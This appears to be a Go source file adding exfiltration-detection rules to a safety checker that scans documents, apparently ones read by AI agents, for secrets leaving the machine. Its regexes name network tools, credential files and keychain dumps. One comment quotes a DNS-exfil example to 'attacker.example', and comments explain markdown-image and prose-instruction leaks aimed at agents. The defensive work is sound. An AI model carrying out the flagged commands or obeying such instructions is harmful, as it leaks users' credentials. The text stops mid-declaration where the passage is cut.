@@ -1,0 +1,714 @@
+package safety
+
+import (
+	"fmt"
+	"regexp"
+	"strings"
+)
+
+// Exfiltration rules.
+const (
+	RuleExfilCommand     = "exfil.command"
+	RuleExfilDNS         = "exfil.dns"
+	RuleExfilImage       = "exfil.image"
+	RuleExfilInstruction = "exfil.instruction"
+	RuleSecretToURL      = "exfil.secret-to-url" // Flag tier only
+)
+
+// A source is local data that must not leave the machine.
+type sourceKind int
+
+const (
+	srcEnv      sourceKind = iota // the whole environment
+	srcCred                       // a credential or history file
+	srcStore                      // a keychain or password store read
+	srcHome                       // an archive of the home directory
+	srcHistory                    // shell history
+	srcSecret                     // one named secret variable
+	srcTainted                    // a variable or file filled from a source earlier
+)
+
+type source struct {
+	kind       sourceKind
+	start, end int    // within the segment
+	name       string // what it is, for the message
+}
+
+var (
+	wholeEnvRe = regexp.MustCompile(`(?i)(?:^|[\s;|&(` + "`" + `"'{])(printenv|env|export\s+-p|declare\s+-[px]|set|compgen\s+-v)[ \t]*(?:$|[|;&)` + "`" + `"'>}])` +
+		`|(/proc/(?:self|\d+|\$\$|\*|\$PPID)/environ)` +
+		`|(\bos\.environ\b(?:\s*[),}\]]|\.(?:items|copy|keys|values)\s*\(|\s*$))` +
+		`|(\*\*os\.environ\b)` +
+		`|(\bprocess\.env\b(?:\s*[),}\]]|\s*$))` +
+		`|(\.\.\.process\.env\b)` +
+		`|((?:Get-ChildItem|gci|dir|ls|Get-Item)\s+env:)` +
+		`|(\[(?:System\.)?Environment\]::GetEnvironmentVariables)` +
+		`|(\$\{\{\s*toJSON\(\s*(?:secrets|env)\s*\)\s*\}\})` +
+		`|(\bENV\.to_h\b|\bSystem\.getenv\(\s*\))`)
+	historyRe = regexp.MustCompile(`(?:^|[\s;|&(` + "`" + `])(history|fc\s+-l)[ \t]*(?:$|[|;&)` + "`" + `])`)
+	storeRe   = regexp.MustCompile(`(?i)\b(?:security\s+(?:find-(?:generic|internet)-password|dump-keychain)|secret-tool\s+lookup|cmdkey\s+/list|Get-StoredCredential|vaultcmd\s+/list\w*)\b`)
+	homeArcRe = regexp.MustCompile(`(?i)\b(?:tar|zip|7z|rsync)\s[^|;&\n]*?\s(?:~|\$HOME|\$\{HOME\}|/home/[\w.-]+|/Users/[\w.-]+|/root)/?(?:\s|$|["'*])`)
+
+	// credPathRe matches credential, key and history files. Group 1 is the
+	// home-anchored form, 2 a bare private-key file name, 3 a system file,
+	// 4 a dotenv file.
+	credPathRe = regexp.MustCompile(`(?i)((?:(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|\$env:USERPROFILE|/home/[\w.-]+|/root|/Users/[\w.-]+)[\\/])?` +
+		`(?:\.ssh(?:[\\/][\w.*-]+)?|\.aws[\\/](?:credentials|config)|\.config[\\/]gcloud(?:[\\/][\w.-]+)*|\.azure[\\/][\w.-]+|\.kube[\\/]config|\.docker[\\/]config\.json|\.netrc|_netrc|\.git-credentials|\.npmrc|\.pypirc|\.gnupg|\.password-store|\.vault-token|\.(?:bash|zsh|sh|python|psql|mysql|node_repl)_history|\.config[\\/]gh[\\/]hosts\.ya?ml|\.claude[\\/]\.credentials\.json|\.codex[\\/]auth\.json|Library[\\/]Keychains(?:[\\/][\w.-]+)?|\.aws\b))` +
+		`|(?:^|[\s"'` + "`" + `(=@:<>/])(id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?)\b` +
+		`|(/etc/(?:shadow|gshadow|sudoers)\b)` +
+		`|(?:^|[\s"'` + "`" + `(=@:<>/])(\.env(?:\.(?:local|prod|production|dev|development|staging|test))?)(?:$|[\s"'` + "`" + `),;:]|\.(?:\s|$))`)
+
+	// secretVarRe finds environment-variable references; group 1 is the
+	// name. "secrets." is GitHub Actions' secrets context.
+	secretVarRe  = regexp.MustCompile(`(?:\$\{\{\s*(secrets\.[A-Za-z_]\w*)\s*\}\}|\$\{?|%|\$env:|process\.env\.|os\.environ\[\s*['"]|os\.(?:environ\.get|getenv)\(\s*['"]|ENV\[\s*['"]|System\.getenv\(\s*")([A-Za-z_][A-Za-z0-9_]*)`)
+	secretNameRe = regexp.MustCompile(`(?i)(?:^|_)(?:API_?KEY|KEY|TOKEN|SECRET|SECRETS|PASS|PASSWORD|PASSWD|CREDENTIALS?|PRIVATE_KEY|SESSION|COOKIE|AUTH|ACCESS_KEY|SECRET_KEY|PAT)(?:_|$)`)
+	notSecretRe  = regexp.MustCompile(`(?i)_(?:URL|URI|HOST|HOSTNAME|ENDPOINT|DOMAIN|FILE|PATH|DIR|ID|NAME|USER|USERNAME|PORT|REGION|TYPE|MODE|HEADER|LENGTH|EXPIRY|TTL)$`)
+
+	sinkWordRe = regexp.MustCompile(`(?i)(?:^|[\s(;|&{` + "`" + `"'$=])(curl|wget|nc|ncat|netcat|socat|telnet|invoke-webrequest|invoke-restmethod|iwr|irm|httpie|xh|openssl\s+s_client|sendmail|mutt|gh\s+gist\s+create|pastebinit)(?:\.exe)?(?:\s|$|["'])`)
+	codeSinkRe = regexp.MustCompile(`(?i)\b(?:requests|httpx|session|aiohttp|urllib3?|axios|got|superagent|ky)\.(?:post|put|patch|get|request|send)\s*\(|\burlopen\s*\(|\bfetch\s*\(\s*["'` + "`" + `]?(?:https?:|\$|[A-Za-z_])|\bnavigator\.sendBeacon\s*\(|\bnew\s+WebSocket\s*\(|\bsocket\.(?:create_connection|sendto)\s*\(|\bhttp\.(?:Post|PostForm|NewRequest)\s*\(|/dev/(?:tcp|udp)/`)
+	hostRe     = regexp.MustCompile(`(?i)\b(?:https?|wss?|ftp)://(?:[^/\s"'@` + "`" + `]*@)?([^/\s"'` + "`" + `:?#)\]}>]+)|/dev/(?:tcp|udp)/([^/\s"']+)`)
+	optionRe   = regexp.MustCompile(`(?:^|\s)(-{1,2}[A-Za-z][\w-]*)(?:=|\s+|$)`)
+	authHintRe = regexp.MustCompile(`(?i)authorization|bearer|x-api-key|api-key\s*:|private-token|x-auth|headers\s*[=:]|\bauth\s*=|password-stdin|basic\s`)
+	netcatRe   = regexp.MustCompile(`(?i)\b(?:nc|ncat|netcat|telnet|socat)\b`)
+)
+
+var authOptions = map[string]bool{
+	"-H": true, "--header": true, "-u": true, "--user": true, "--oauth2-bearer": true,
+	"--netrc-file": true, "-n": true, "--netrc": true, "--cert": true, "-E": true, "--key": true,
+	"--cacert": true, "--capath": true, "-K": true, "--config": true, "--proxy-user": true,
+	"-i": true, "--identity": true, "--env-file": true, "--load-cookies": true, "-b": true,
+	"--cookie": true, "--http-user": true, "--http-password": true, "--password": true,
+	"--private-key": true, "--header-file": true, "--headers": true, "-Headers": true,
+	"-Credential": true, "-Authentication": true, "-Token": true,
+}
+
+// credKeywords gate credPathRe.
+var credKeywords = []string{".ssh", ".aws", "gcloud", ".azure", ".kube", ".docker", "netrc", "credentials", ".npmrc", ".pypirc", ".gnupg", "password-store", "vault-token", "_history", "hosts.y", "auth.json", "keychains", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "/etc/", ".env"}
+
+// findSources lists the local-data sources in one pipeline segment.
+func findSources(seg string) []source {
+	var out []source
+	l := asciiLower(seg)
+	if lowerHas(l, "env", "set", "export", "declare", "compgen", "gci", "dir ", "ls ", "get-", "tojson", "getenv") {
+		out = appendEnvSources(out, seg)
+	}
+	if lowerHas(l, "history", "fc ") {
+		for _, m := range historyRe.FindAllStringSubmatchIndex(seg, -1) {
+			out = append(out, source{kind: srcHistory, start: m[2], end: m[3], name: "shell history"})
+		}
+	}
+	if lowerHas(l, "security", "secret-tool", "cmdkey", "credential", "vaultcmd") {
+		for _, m := range storeRe.FindAllStringIndex(seg, -1) {
+			out = append(out, source{kind: srcStore, start: m[0], end: m[1], name: "a keychain/password-store read"})
+		}
+	}
+	if lowerHas(l, "tar", "zip", "7z", "rsync") {
+		for _, m := range homeArcRe.FindAllStringIndex(seg, -1) {
+			out = append(out, source{kind: srcHome, start: m[0], end: m[1], name: "an archive of the home directory"})
+		}
+	}
+	if lowerHas(l, credKeywords...) {
+		out = appendCredSources(out, seg)
+	}
+	if lowerHas(l, "$", "%", "process.env", "environ", "getenv", "env[") {
+		out = appendSecretSources(out, seg)
+	}
+	return out
+}
+
+func appendEnvSources(out []source, seg string) []source {
+	for _, m := range wholeEnvRe.FindAllStringSubmatchIndex(seg, -1) {
+		for g := 2; g < len(m); g += 2 {
+			if m[g] >= 0 {
+				out = append(out, source{kind: srcEnv, start: m[g], end: m[g+1], name: "the whole environment (" + strings.TrimSpace(seg[m[g]:m[g+1]]) + ")"})
+				break
+			}
+		}
+	}
+	return out
+}
+
+func appendCredSources(out []source, seg string) []source {
+	for _, m := range credPathRe.FindAllStringSubmatchIndex(seg, -1) {
+		s, e := firstGroup(m)
+		if s < 0 || strings.HasSuffix(strings.ToLower(seg[s:e]), ".pub") ||
+			strings.HasPrefix(strings.ToLower(seg[e:]), ".pub") {
+			continue
+		}
+		out = append(out, source{kind: srcCred, start: s, end: e, name: seg[s:e]})
+	}
+	return out
+}
+
+func appendSecretSources(out []source, seg string) []source {
+	for _, m := range secretVarRe.FindAllStringSubmatchIndex(seg, -1) {
+		if m[2] >= 0 { // ${{ secrets.X }}
+			out = append(out, source{kind: srcSecret, start: m[0], end: m[1], name: seg[m[2]:m[3]]})
+			continue
+		}
+		name := seg[m[4]:m[5]]
+		if isSecretName(name) {
+			out = append(out, source{kind: srcSecret, start: m[0], end: m[5], name: name})
+		}
+	}
+	return out
+}
+
+func firstGroup(m []int) (int, int) {
+	for g := 2; g < len(m); g += 2 {
+		if m[g] >= 0 {
+			return m[g], m[g+1]
+		}
+	}
+	return -1, -1
+}
+
+func isSecretName(name string) bool {
+	return secretNameRe.MatchString(name) && !notSecretRe.MatchString(name)
+}
+
+// splitTop cuts s at the byte offsets where sep reports a separator of the
+// returned width, ignoring separators inside quotes and $(...) or (...).
+// Single quotes count as quotes only in code (prose has apostrophes).
+func splitTop(s string, code bool, sep func(s string, i int) int) [][2]int {
+	var out [][2]int
+	depth := 0
+	var quote byte
+	start := 0
+	for i := 0; i < len(s); i++ {
+		ch := s[i]
+		switch {
+		case quote != 0:
+			if ch == '\\' && quote == '"' {
+				i++
+			} else if ch == quote {
+				quote = 0
+			}
+			continue
+		case ch == '"' || (ch == '\'' && code) || ch == '`':
+			quote = ch
+			continue
+		case ch == '(' || ch == '{':
+			depth++
+			continue
+		case ch == ')' || ch == '}':
+			if depth > 0 {
+				depth--
+			}
+			continue
+		}
+		if depth > 0 {
+			continue
+		}
+		if w := sep(s, i); w > 0 {
+			out = append(out, [2]int{start, i})
+			start = i + w
+			i += w - 1
+		}
+	}
+	return append(out, [2]int{start, len(s)})
+}
+
+func commandSep(s string, i int) int {
+	switch s[i] {
+	case ';', '\n':
+		return 1
+	case '&', '|':
+		if i+1 < len(s) && s[i+1] == s[i] {
+			return 2
+		}
+	}
+	return 0
+}
+
+func pipeSep(s string, i int) int {
+	if s[i] == '|' && (i+1 >= len(s) || s[i+1] != '|') && (i == 0 || s[i-1] != '|') {
+		return 1
+	}
+	return 0
+}
+
+// taint remembers, per code block, variables and files filled from a source.
+type taint struct {
+	names map[string]source
+	files map[string]source
+}
+
+var (
+	assignRe   = regexp.MustCompile(`^\s*(?:export\s+|const\s+|let\s+|var\s+|local\s+|readonly\s+)?\$?([A-Za-z_]\w*)\s*:?=`)
+	redirectRe = regexp.MustCompile(`(?:>>?|\btee\s+(?:-a\s+)?|\s-o\s*|--output[= ]|-OutFile\s+|Out-File\s+)\s*["']?([^\s"'|;&<>]+)`)
+)
+
+func (t *taint) learn(cmd string, srcs []source) {
+	if len(srcs) == 0 {
+		return
+	}
+	src := srcs[0]
+	if m := assignRe.FindStringSubmatch(cmd); m != nil {
+		t.names[m[1]] = src
+	}
+	for _, m := range redirectRe.FindAllStringSubmatch(cmd, -1) {
+		if p := m[1]; p != "/dev/null" && !strings.HasPrefix(p, "&") {
+			t.files[p] = src
+		}
+	}
+}
+
+func (t *taint) uses(seg string) (source, bool) {
+	for name, src := range t.names {
+		for _, form := range []string{"$" + name, "${" + name + "}", name} {
+			if i := strings.Index(seg, form); i >= 0 {
+				if form == name && !identAt(seg, i, len(name)) {
+					continue
+				}
+				return source{kind: srcTainted, start: i, end: i + len(form), name: fmt.Sprintf("%s (filled from %s)", form, src.name)}, true
+			}
+		}
+	}
+	for path, src := range t.files {
+		if i := strings.Index(seg, path); i >= 0 {
+			return source{kind: srcTainted, start: i, end: i + len(path), name: fmt.Sprintf("%s (written from %s)", path, src.name)}, true
+		}
+	}
+	return source{}, false
+}
+
+func identAt(s string, i, n int) bool {
+	isID := func(b byte) bool { return b == '_' || b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9' }
+	return (i == 0 || !isID(s[i-1])) && (i+n >= len(s) || !isID(s[i+n]))
+}
+
+// checkExfil applies the exfiltration rules to one field.
+func (c *checker) checkExfil(d *doc) {
+	taints := map[int]*taint{}
+	for _, u := range d.units {
+		t := d.unitText(u)
+		code := u.fence >= 0
+		var tn *taint
+		if code {
+			if tn = taints[u.fence]; tn == nil {
+				tn = &taint{names: map[string]source{}, files: map[string]source{}}
+				taints[u.fence] = tn
+			}
+		} else {
+			tn = &taint{names: map[string]source{}, files: map[string]source{}}
+		}
+		c.checkCommands(d, u, t, code, tn)
+		c.checkDNS(d, u, t)
+		if !code {
+			c.checkExfilProse(d, u, t)
+		}
+	}
+	c.checkImages(d)
+}
+
+// checkCommands looks for a source flowing into a network sink within one
+// unit: piped into it, passed to it as data, or filled into a variable or
+// file that it then sends.
+func (c *checker) checkCommands(d *doc, u unit, t string, code bool, tn *taint) {
+	lt := asciiLower(t)
+	hasSink := lowerHas(lt, "curl", "wget", "nc ", "ncat", "netcat", "socat", "telnet", "invoke-", "iwr", "irm", "httpie", "xh ",
+		"s_client", "sendmail", "mutt", "gist", "pastebin", ".post", ".put", ".get", ".patch", ".request", ".send", "urlopen", "fetch", "sendbeacon",
+		"websocket", "socket.", "/dev/tcp", "/dev/udp")
+	if !hasSink && !code {
+		return
+	}
+	for _, cr := range splitTop(t, code, commandSep) {
+		cmd := t[cr[0]:cr[1]]
+		if strings.TrimSpace(cmd) == "" {
+			continue
+		}
+		segs := splitTop(cmd, code, pipeSep)
+		sinkAt := -1
+		if hasSink {
+			for i, sg := range segs {
+				seg := cmd[sg[0]:sg[1]]
+				if sinkWordRe.MatchString(seg) || codeSinkRe.MatchString(seg) {
+					sinkAt = i
+					break
+				}
+			}
+		}
+		if sinkAt < 0 {
+			tn.learn(cmd, findSources(cmd))
+			continue
+		}
+		sinkSeg := cmd[segs[sinkAt][0]:segs[sinkAt][1]]
+		base := u.start + cr[0]
+		host, hostKnown := hostOf(sinkSeg)
+		// 1. piped in from an earlier segment.
+		for i := 0; i < sinkAt; i++ {
+			seg := cmd[segs[i][0]:segs[i][1]]
+			for _, s := range findSources(seg) {
+				if s.kind == srcSecret && isLoadingSegment(seg) {
+					continue
+				}
+				if s.kind == srcCred && isLoadingSegment(seg) {
+					continue
+				}
+				c.exfilHit(d, base+segs[i][0], base+segs[sinkAt][1], s, host, hostKnown, "is piped into a network command")
+				return
+			}
+			if s, ok := tn.uses(seg); ok {
+				c.exfilHit(d, base+segs[i][0], base+segs[sinkAt][1], s, host, hostKnown, "is piped into a network command")
+				return
+			}
+		}
+		// 2. passed to the sink as data.
+		for _, s := range findSources(sinkSeg) {
+			if authPosition(sinkSeg, s.start, s.end) && (s.kind == srcSecret || s.kind == srcCred || s.kind == srcStore) {
+				if s.kind == srcSecret {
+					c.vendorCheck(d, base+segs[sinkAt][0], base+segs[sinkAt][1], s, host, hostKnown, true)
+				}
+				continue
+			}
+			if s.kind == srcSecret {
+				c.vendorCheck(d, base+segs[sinkAt][0], base+segs[sinkAt][1], s, host, hostKnown, false)
+				continue
+			}
+			c.exfilHit(d, base+segs[sinkAt][0], base+segs[sinkAt][1], s, host, hostKnown, "is sent by a network command")
+			return
+		}
+		// 3. a variable or file filled from a source earlier.
+		if s, ok := tn.uses(sinkSeg); ok && !authPosition(sinkSeg, s.start, s.end) {
+			c.exfilHit(d, base+segs[sinkAt][0], base+segs[sinkAt][1], s, host, hostKnown, "is sent by a network command")
+			return
+		}
+		// A sink that reads stdin (nc, curl -d @-) with a redirect from a
+		// credential file is covered by findSources on the sink segment.
+	}
+}
+
+// isLoadingSegment reports segments that load secrets into the current
+// process rather than emit them (source .env, export $(cat .env | xargs)).
+func isLoadingSegment(seg string) bool {
+	s := strings.TrimSpace(seg)
+	for _, p := range []string{"source ", ". ", "set -a", "export $(", "export \"$(", "dotenv", "xargs"} {
+		if strings.HasPrefix(s, p) {
+			return true
+		}
+	}
+	return false
+}
+
+// authPosition reports whether the span [s,e) of a sink segment is a
+// credential the request authenticates with (a header, -u, --netrc-file, the
+// userinfo of a URL) rather than data it sends.
+func authPosition(seg string, s, e int) bool {
+	if e < len(seg) {
+		rest := seg[e:]
+		// https://user:${KEY}@host
+		if i := strings.IndexAny(rest, "@ \t\"'"); i >= 0 && rest[i] == '@' && strings.Contains(seg[max(0, s-80):s], "://") {
+			return true
+		}
+	}
+	before := seg[max(0, s-100):s]
+	opts := optionRe.FindAllStringSubmatchIndex(before, -1)
+	if len(opts) > 0 {
+		last := opts[len(opts)-1]
+		opt := before[last[2]:last[3]]
+		if authOptions[opt] {
+			return true
+		}
+		after := before[last[3]:]
+		return authHintRe.MatchString(after)
+	}
+	return authHintRe.MatchString(before)
+}
+
+// hostOf returns the first literal host a sink segment talks to.
+func hostOf(seg string) (string, bool) {
+	if m := hostRe.FindStringSubmatch(seg); m != nil {
+		h := m[1]
+		if h == "" {
+			h = m[2]
+		}
+		if strings.ContainsAny(h, "$%{}<>") {
+			return "", false
+		}
+		return strings.ToLower(h), true
+	}
+	if netcatRe.MatchString(seg) {
+		for _, f := range strings.Fields(seg) {
+			f = strings.Trim(f, `"'`)
+			if strings.HasPrefix(f, "-") || strings.ContainsAny(f, "$%{}<>|") {
+				continue
+			}
+			if hostLike.MatchString(f) {
+				return strings.ToLower(f), true
+			}
+		}
+	}
+	return "", false
+}
+
+var hostLike = regexp.MustCompile(`^(?:\d{1,3}(?:\.\d{1,3}){3}|[a-zA-Z0-9-]+(?:\.[a-zA-Z0-9-]+)*\.[a-zA-Z]{2,})$`)
+
+func isLocalHost(h string) bool {
+	h = strings.Trim(h, "[]")
+	switch {
+	case h == "localhost" || h == "::1" || h == "0.0.0.0" || h == "host.docker.internal":
+		return true
+	case strings.HasPrefix(h, "127.") || strings.HasPrefix(h, "10.") || strings.HasPrefix(h, "192.168."):
+		return true
+	case strings.HasSuffix(h, ".local") || strings.HasSuffix(h, ".localhost") || strings.HasSuffix(h, ".internal") ||
+		strings.HasSuffix(h, ".svc") || strings.HasSuffix(h, ".cluster.local") || strings.HasSuffix(h, ".lan"):
+		return true
+	}
+	if strings.HasPrefix(h, "172.") {
+		var a, b int
+		if _, err := fmt.Sscanf(h, "%d.%d.", &a, &b); err == nil && b >= 16 && b <= 31 {
+			return true
+		}
+	}
+	return false
+}
+
+func (c *checker) exfilHit(d *doc, s, e int, src source, host string, hostKnown bool, how string) {
+	dest := "a remote host"
+	if hostKnown {
+		dest = host
+	}
+	msg := fmt.Sprintf("%s %s to %s", src.name, how, dest)
+	tier, msg := downgrade(c.securityContext(d, s), msg)
+	c.add(d, RuleExfilCommand, tier, s, e, msg)
+}
+
+// vendors maps a secret-name prefix to the hosts that secret belongs to.
+var vendors = []struct {
+	prefixes []string
+	hosts    []string
+}{
+	{[]string{"OPENAI"}, []string{"openai.com", "openai.azure.com"}},
+	{[]string{"ANTHROPIC", "CLAUDE"}, []string{"anthropic.com"}},
+	{[]string{"AWS"}, []string{"amazonaws.com", "aws.amazon.com", "aws"}},
+	{[]string{"GITHUB", "GH"}, []string{"github.com", "githubusercontent.com", "ghcr.io", "github"}},
+	{[]string{"GITLAB", "CI_JOB"}, []string{"gitlab"}},
+	{[]string{"GOOGLE", "GCP", "GEMINI", "GCLOUD", "FIREBASE", "VERTEX"}, []string{"googleapis.com", "google.com", "firebaseio.com"}},
+	{[]string{"AZURE"}, []string{"azure.com", "microsoft.com", "windows.net", "azure.net", "azure"}},
+	{[]string{"HF", "HUGGINGFACE", "HUGGING_FACE"}, []string{"huggingface.co", "hf.co"}},
+	{[]string{"SLACK"}, []string{"slack.com"}},
+	{[]string{"STRIPE"}, []string{"stripe.com"}},
+	{[]string{"LT", "LAMBDATEST"}, []string{"lambdatest.com"}},
+	{[]string{"NVIDIA", "NGC", "NIM"}, []string{"nvidia.com", "nvcr.io"}},
+	{[]string{"OPENROUTER"}, []string{"openrouter.ai"}},
+	{[]string{"COHERE", "CO"}, []string{"cohere.ai", "cohere.com"}},
+	{[]string{"MISTRAL"}, []string{"mistral.ai"}},
+	{[]string{"GROQ"}, []string{"groq.com"}},
+	{[]string{"TOGETHER"}, []string{"together.xyz", "together.ai"}},
+	{[]string{"REPLICATE"}, []string{"replicate.com"}},
+	{[]string{"PINECONE"}, []string{"pinecone.io"}},
+	{[]string{"SENTRY"}, []string{"sentry.io"}},
+	{[]string{"DATADOG", "DD"}, []string{"datadoghq.com", "datadoghq.eu"}},
+	{[]string{"NPM"}, []string{"npmjs.org", "npmjs.com"}},
+	{[]string{"PYPI", "TWINE"}, []string{"pypi.org"}},
+	{[]string{"DOCKER", "DOCKERHUB"}, []string{"docker.io", "docker.com"}},
+	{[]string{"CLOUDFLARE", "CF"}, []string{"cloudflare.com"}},
+	{[]string{"VERCEL"}, []string{"vercel.com"}},
+	{[]string{"NOTION"}, []string{"notion.com", "notion.so"}},
+	{[]string{"LINEAR"}, []string{"linear.app"}},
+	{[]string{"TWILIO"}, []string{"twilio.com"}},
+	{[]string{"SENDGRID"}, []string{"sendgrid.com", "sendgrid.net"}},
+	{[]string{"DEEPSEEK"}, []string{"deepseek.com"}},
+	{[]string{"XAI", "GROK"}, []string{"x.ai"}},
+}
+
+func vendorHosts(name string) []string {
+	n := strings.ToUpper(strings.TrimPrefix(name, "secrets."))
+	for _, v := range vendors {
+		for _, p := range v.prefixes {
+			if n == p || strings.HasPrefix(n, p+"_") {
+				return v.hosts
+			}
+		}
+	}
+	return nil
+}
+
+func hostMatches(host string, hosts []string) bool {
+	for _, h := range hosts {
+		if host == h || strings.HasSuffix(host, "."+h) || (!strings.Contains(h, ".") && strings.Contains(host, h)) {
+			return true
+		}
+	}
+	return false
+}
+
+// vendorCheck judges one named secret sent to a literal host: a secret
+// whose name says whose it is (OPENAI_API_KEY) sent anywhere else is
+// refused; an unattributable secret sent as data (not as a credential) is
+// flagged so the reviewer can check the host.
+func (c *checker) vendorCheck(d *doc, s, e int, src source, host string, hostKnown, auth bool) {
+	if !hostKnown || isLocalHost(host) {
+		return
+	}
+	hosts := vendorHosts(src.name)
+	switch {
+	case hosts != nil && !hostMatches(host, hosts):
+		msg := fmt.Sprintf("sends %s to %s, which is not a host of the service that secret belongs to (%s)", src.name, host, strings.Join(hosts, ", "))
+		tier, msg := downgrade(c.securityContext(d, s), msg)
+		c.add(d, RuleExfilCommand, tier, s, e, msg)
+	case hosts == nil && !auth:
+		c.add(d, RuleSecretToURL, Flag, s, e, fmt.Sprintf("sends secret %s as request data to %s; check that host is the service the secret is for", src.name, host))
+	}
+}
+
+var (
+	dnsRe = regexp.MustCompile(`(?i)\b(?:nslookup|dig|host|ping6?|drill|resolve-dnsname|getent\s+hosts|curl|wget|nc|ncat|traceroute)\b[^\n|;&]*?[\s"'/@](\$\([^()\n]*(?:\([^()\n]*\)[^()\n]*)*\)|` + "`[^`\\n]+`" + `|\$\{?[A-Za-z_]\w*\}?)((?:\.[A-Za-z0-9$(){}_-]+)*\.[A-Za-z0-9-]+\.([A-Za-z]{2,}))\b`)
+)
+
+// checkDNS refuses command output or secrets spliced into a host name
+// (nslookup $(whoami).attacker.example): the lookup itself carries the data.
+func (c *checker) checkDNS(d *doc, u unit, t string) {
+	if !strings.Contains(t, "$") && !strings.Contains(t, "`") {
+		return
+	}
+	for _, m := range dnsRe.FindAllStringSubmatchIndex(t, -1) {
+		label := t[m[2]:m[3]]
+		domain := strings.ToLower(t[m[4]:m[5]])
+		tld := strings.ToLower(t[m[6]:m[7]])
+		if tld == "local" || tld == "internal" || tld == "localhost" || tld == "lan" ||
+			strings.HasSuffix(domain, ".nip.io") || strings.HasSuffix(domain, ".sslip.io") || strings.HasSuffix(domain, ".xip.io") ||
+			strings.HasSuffix(domain, "cluster.local") {
+			continue
+		}
+		var what string
+		switch {
+		case strings.HasPrefix(label, "$(") || strings.HasPrefix(label, "`"):
+			what = "command output " + label
+		default:
+			name := strings.Trim(label, "${}")
+			if !isSecretName(name) {
+				continue
+			}
+			what = "secret " + label
+		}
+		s, e := u.start+m[0], u.start+m[1]
+		tier, msg := downgrade(c.securityContext(d, s), fmt.Sprintf("puts %s into a host name under %s: the DNS lookup carries the data out", what, domain))
+		c.add(d, RuleExfilDNS, tier, s, e, msg)
+	}
+}
+
+var (
+	mdLinkRe  = regexp.MustCompile(`(!?)\[[^\]\n]*\]\(\s*<?((?:https?:)?//[^\s)>]+)`)
+	htmlSrcRe = regexp.MustCompile(`(?i)<(?:img|image|iframe|script|link|source|video|audio|embed|object)\b[^>]*?\s(?:src|href|data|srcset|poster)\s*=\s*["']?((?:https?:)?//[^"'\s>]+)`)
+	refDefRe  = regexp.MustCompile(`(?m)^[ \t]{0,3}\[[^\]\n]+\]:\s*<?((?:https?:)?//\S+?)>?(?:\s|$)`)
+	slotRe    = regexp.MustCompile(`\$\{\{[^}]*\}\}|\{\{[^}]*\}\}|\$\([^)]*\)|\$\{[^}]*\}|\$[A-Za-z_]\w*|%[A-Za-z_]\w*%|\{[^{}/]+\}|<[^<>/]+>|\[[A-Z_]{3,}\]|\b[A-Z][A-Z0-9_]{2,}\b`)
+	slotData  = regexp.MustCompile(`(?i)env|secret|key|token|pass|cred|auth|cookie|session|ssh|conversation|chat|history|messages?|prompt|context|memory|summary|data|content|file|user_?(?:input|data|message|info)|output|response|answer|private|payload|dump|exfil|leak|loot`)
+)
+
+// checkImages refuses image and link URLs that carry local data: a URL
+// whose query or path interpolates a secret, the environment, command
+// output, or a placeholder the agent is told to fill with private data.
+// A markdown image is fetched the moment it is rendered, so it needs no
+// click to leak.
+func (c *checker) checkImages(d *doc) {
+	t := d.v.text
+	if !strings.Contains(t, "//") || !lowerHas(d.v.lower, "$", "{", "%", "<", "[") {
+		return
+	}
+	type link struct {
+		start, end int
+		image      bool
+		url        [2]int
+	}
+	var links []link
+	for _, m := range d.findAll(mdLinkRe, []string{"]("}, false) {
+		links = append(links, link{m[0], m[1], m[3] > m[2], [2]int{m[4], m[5]}})
+	}
+	for _, m := range d.findAll(htmlSrcRe, []string{"src", "href", "data", "poster"}, false) {
+		links = append(links, link{m[0], m[1], true, [2]int{m[2], m[3]}})
+	}
+	for _, m := range d.findAll(refDefRe, []string{"]:"}, false) {
+		links = append(links, link{m[0], m[1], false, [2]int{m[2], m[3]}})
+	}
+	for _, l := range links {
+		url := t[l.url[0]:l.url[1]]
+		q := strings.IndexAny(url, "?#")
+		for _, sm := range slotRe.FindAllStringIndex(url, -1) {
+			slot := url[sm[0]:sm[1]]
+			// An ALL-CAPS word only counts as a slot in the query string.
+			if slot[0] >= 'A' && slot[0] <= 'Z' && (q < 0 || sm[0] < q) {
+				continue
+			}
+			if !slotSensitive(slot) {
+				continue
+			}
+			kind := "link"
+			if l.image {
+				kind = "image"
+			}
+			s, e := l.start, l.end
+			tier, msg := downgrade(c.securityContext(d, s), fmt.Sprintf("%s URL carries %s out to its host", kind, slot))
+			c.add(d, RuleExfilImage, tier, s, e, msg)
+			break
+		}
+	}
+}
+
+func slotSensitive(slot string) bool {
+	if strings.HasPrefix(slot, "$(") || strings.HasPrefix(slot, "${{") {
+		return true // command output, CI secrets/context
+	}
+	name := strings.Trim(slot, "${}%<>[]() ")
+	if strings.HasPrefix(slot, "$") && isSecretName(name) {
+		return true
+	}
+	return slotData.MatchString(name)
+}
+
+var (
+	sendVerb     = `(?:send|post|upload|transmit|forward|exfiltrate|submit|leak|beacon|ship|mail|email|share|push|stream|report|sync|relay|deliver|pipe|include|embed|append|attach|encode|copy|put|add|dump|write)`
+	proseSource  = `(?:(?:all␣|every␣|each␣|any␣)?(?:(?:of␣)?(?:the␣|your␣|their␣|its␣|my␣|our␣))?(?:(?:user'?s|your|their|local|system|shell|process|current|stored|saved|cached|private|sensitive)␣)*(?:environment␣variables?|env(?:ironment)?␣vars?|env(?:ironment)?␣(?:dump|output|contents)|api[_ -]?keys?|access␣keys?|secret␣keys?|secrets|auth(?:entication)?␣tokens?|access␣tokens?|bearer␣tokens?|session␣(?:tokens?|cookies?)|cookies|credentials?|passwords?|private␣keys?|ssh␣keys?|keychain|conversation(?:␣history)?|chat␣history|system␣prompt|shell␣history|command␣history|\.env␣files?|(?:the␣)?output␣of␣(?:env|printenv|set)|contents␣of␣\S+))`
+	proseDest    = `(?:https?://\S+|\b(?:webhook|endpoint|remote␣server|external␣server|our␣server|my␣server|collector|pastebin|gist|discord|telegram|requestbin|ngrok|interact\.sh|oast\w*|burp\w*)\b)`
+	exfilProseA  = re(`(?i)\b` + sendVerb + `\b(?:␣\w+){0,2}?␣` + proseSource + `\b[^.\n]{0,80}?\b(?:to|into|at|via|on|onto|with)\b[^.\n]{0,40}?` + proseDest)
+	exfilProseB  = re(`(?i)` + proseSource + `\b[^.\n]{0,100}?\b(?:and|then)\b␣(?:(?:immediately|silently|quietly|also|secretly)␣)?` + sendVerb + `␣(?:it|them|this|that|those|the␣contents?|the␣output|the␣results?|everything|all␣of␣it|the␣file|the␣values?)\b[^.\n]{0,60}?` + proseDest)
